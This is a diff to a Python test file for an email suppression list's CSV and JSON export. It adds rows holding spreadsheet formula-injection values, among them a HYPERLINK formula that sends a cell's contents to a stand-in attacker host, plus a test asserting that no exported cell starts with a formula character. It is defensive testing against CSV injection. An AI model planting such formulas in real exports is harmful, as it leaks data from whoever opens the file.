@@ -1,5 +1,6 @@
 """Files of the suppression list: three forms to read, two to write, and what is wrong said with its line."""
 
+import csv
 import io
 
 import pytest
@@ -10,6 +11,9 @@ from engine.suppression.entries import Row, as_csv, as_json, parsed
 ROWS = [
     Row("bob@example.net", "complaint", "", 1_790_000_000.0),
     Row("example.com", "invalid-domain", "acme", 1_790_000_000.0, 1_800_000_000.0, 'he said "no", twice'),
+    Row("=1+1@example.com", "complaint", "", 0.0, 0.0, '=HYPERLINK("http://evil.test/"&A1)'),
+    Row("-x@example.com", "complaint", "", 0.0, 0.0, "'+1 said so"),
+    Row("'x@example.com", "complaint", "", 0.0, 0.0, "'quoted'"),
 ]
 
 
@@ -21,6 +25,11 @@ def read(text: str) -> list[Row]:
 def test_what_is_written_is_read(form: object) -> None:
     text = "\n".join(form(ROWS)) + "\n"  # type: ignore[operator]
     assert read(text) == ROWS
+
+
+def test_nothing_in_a_file_is_a_formula() -> None:
+    for line in as_csv(ROWS):
+        assert not [cell for cell in next(csv.reader([line])) if cell.startswith(("=", "+", "-", "@"))], line
 
 
 def test_an_entry_a_line() -> None:
